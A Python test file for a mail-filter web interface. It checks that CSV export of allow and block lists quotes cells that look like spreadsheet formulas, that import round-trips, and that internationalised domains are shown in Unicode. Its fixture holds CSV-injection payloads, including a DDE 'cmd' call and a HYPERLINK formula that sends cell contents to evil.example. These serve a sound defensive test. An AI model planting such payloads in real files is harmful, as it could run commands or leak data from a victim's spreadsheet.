"""Lists CSV export opened in a spreadsheet runs nothing, reads back the same; IDN shown one way."""

from __future__ import annotations

import csv
import io

from flask import Flask
from flask.testing import FlaskClient

from stronghold.store import entries
from tests.webui.conftest import Auth, token

PAGE = "/lists/bob@example.com"
HOSTILE = {  # pattern -> comment, each starting like a spreadsheet formula
    "=cmd|'/c_calc'!a0@evil.example": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1@evil.example": "+1+1",
    "-x@evil.example": "-2+3",
    "@evil.example": "@SUM(1+1)",
    "pal@good.example": "'=quoted on purpose",
}


def _entries(app: Flask, owner: str | None) -> set[tuple[str, str, str, bool]]:
    with app.extensions["stronghold_store"].session() as s:
        return {(e.kind, e.pattern, e.comment, e.trust_unauthenticated) for e in entries.entries(s, owner)}


def _seed(app: Flask) -> None:
    with app.extensions["stronghold_store"].session() as s:
        for pattern, comment in HOSTILE.items():
            entries.add_entry(s, "bob@example.com", "allow" if "good" in pattern else "block", pattern, comment)


def _import(client: FlaskClient, page: str, text: str):
    data = {"file": (io.BytesIO(text.encode()), "l.csv"), "csrf_token": token(client, page)}
    return client.post(page + "/import", data=data, content_type="multipart/form-data")


def test_export_quotes_cells_that_start_like_formulas(client: FlaskClient, auth: Auth, app: Flask) -> None:
    _seed(app)
    auth.login("root")  # admins export anyone's lists: the file a user filled lands on the admin's desk
    rows = list(csv.reader(io.StringIO(client.get(PAGE + "/export.csv").get_data(as_text=True))))
    assert rows[0] == ["kind", "pattern", "comment", "trust_unauthenticated"]
    for _kind, pattern, comment, _trust in rows[1:]:
        for cell in (pattern, comment):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    cells = {row[1]: row[2] for row in rows[1:]}
    assert cells["'@evil.example"] == "'@SUM(1+1)"
    assert cells["'=cmd|'/c_calc'!a0@evil.example"] == "'" + HOSTILE["=cmd|'/c_calc'!a0@evil.example"]
    assert cells["pal@good.example"] == "''=quoted on purpose"  # its own quote kept through the round trip


def test_export_then_import_gives_the_same_entries(client: FlaskClient, auth: Auth, app: Flask) -> None:
    _seed(app)
    auth.login("root")
    exported = client.get(PAGE + "/export.csv").get_data(as_text=True)
    assert _import(client, "/lists/global", exported).status_code == 302
    assert _entries(app, None) == _entries(app, "bob@example.com")
    assert ("block", "@evil.example", "@SUM(1+1)", False) in _entries(app, None)
    assert ("allow", "pal@good.example", "'=quoted on purpose", False) in _entries(app, None)


def test_admin_users_page_shows_international_addresses_in_unicode(client: FlaskClient, auth: Auth,
                                                                   app: Flask) -> None:
    auth.login("root")
    created = auth.post("/admin/users", {"login": "frank", "password": "a long enough password",
                                         "addresses": "frank@bücher.example"}, "/admin/users")
    assert created.status_code == 302
    page = client.get("/admin/users").get_data(as_text=True).replace("<wbr>", "")
    assert ">frank@bücher.example</a>" in page and "Remove address frank@bücher.example from frank" in page
    assert ">frank@xn--bcher-kva.example<" not in page
    assert 'value="frank@xn--bcher-kva.example"' in page  # the form still names the stored address
    lists = client.get("/lists/frank@xn--bcher-kva.example").get_data(as_text=True)
    assert "<h1>Lists of frank@bücher.example</h1>" in lists


def test_trust_message_names_the_domain_in_unicode(client: FlaskClient, auth: Auth, app: Flask) -> None:
    auth.login()
    page = "/lists/alice@example.com"
    assert auth.post(page + "/add", {"kind": "allow", "pattern": "@bücher.example"}, page).status_code == 302
    with app.extensions["stronghold_store"].session() as s:
        entry_id = entries.entries(s, "alice@example.com")[0].id
    auth.post(f"{page}/trust/{entry_id}", {"trust": "1"}, page)
    shown = client.get(page).get_data(as_text=True)
    assert "@bücher.example is now trusted without authentication" in shown
    auth.post(f"{page}/trust/{entry_id}", {"trust": "0"}, page)
    assert "@bücher.example now applies only to authenticated mail" in client.get(page).get_data(as_text=True)


def test_export_keeps_the_ascii_form_and_import_takes_either(client: FlaskClient, auth: Auth, app: Flask) -> None:
    auth.login()
    page = "/lists/alice@example.com"
    auth.post(page + "/add", {"kind": "block", "pattern": "*.bücher.example"}, page)
    assert "block,*.xn--bcher-kva.example," in client.get(page + "/export.csv").get_data(as_text=True)
    assert _import(client, "/lists/alice2@example.com", "block,@bücher.example,\n").status_code == 302
    assert ("block", "@xn--bcher-kva.example", "", False) in _entries(app, "alice2@example.com")


def test_a_bare_domain_gets_a_hint(client: FlaskClient, auth: Auth) -> None:
    auth.login()
    page = "/lists/alice@example.com"
    r = auth.post(page + "/add", {"kind": "block", "pattern": "bücher.example"}, page)
    assert r.status_code == 400
    assert ("for a whole domain, write @bücher.example or *.bücher.example"
            in r.get_data(as_text=True).replace("&#39;", "'"))
    r = auth.post(page + "/add", {"kind": "block", "pattern": "no-domain"}, page)
    assert r.status_code == 400 and "for a whole domain" not in r.get_data(as_text=True)


def test_every_formula_start_is_quoted_and_comes_back() -> None:
    for value in ("=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''+1", "plain", "'plain", "", "a=1"):
        cell = entries.csv_cell(value)
        assert not cell.startswith(entries.FORMULA_STARTS)
        assert cell == ("'" + value if value.lstrip("'").startswith(entries.FORMULA_STARTS) else value)
        assert entries.csv_value(cell) == value


def _lines(n: int, start: int = 0) -> str:
    return "".join(f"block,x{i}@spam{i}.example\n" for i in range(start, start + n))


def test_one_address_holds_a_bounded_number_of_entries(client: FlaskClient, auth: Auth, app: Flask) -> None:
    """Every milter worker holds every entry and reads them all again at each change: a user
    importing 2 MiB files one after another must not fill the workers' memory for everyone."""
    auth.login("bob")
    cap = entries.MAX_OWNER_ENTRIES
    assert _import(client, PAGE, _lines(cap - 1)).status_code == 302
    over = _import(client, PAGE, _lines(2, cap))
    assert over.status_code == 400 and f"at most {cap:,}" in over.get_data(as_text=True)
    assert len(_entries(app, "bob@example.com")) == cap - 1  # all or nothing
    assert auth.post(PAGE + "/add", {"kind": "block", "pattern": "last@spam.example"}, PAGE).status_code == 302
    full = auth.post(PAGE + "/add", {"kind": "block", "pattern": "more@spam.example"}, PAGE)
    assert full.status_code == 400 and f"at most {cap:,}" in full.get_data(as_text=True)
    assert len(_entries(app, "bob@example.com")) == cap
    with app.extensions["stronghold_store"].session() as s:  # the admins' global lists are not bounded
        assert entries.import_csv(s, None, _lines(cap + 1)).added == cap + 1
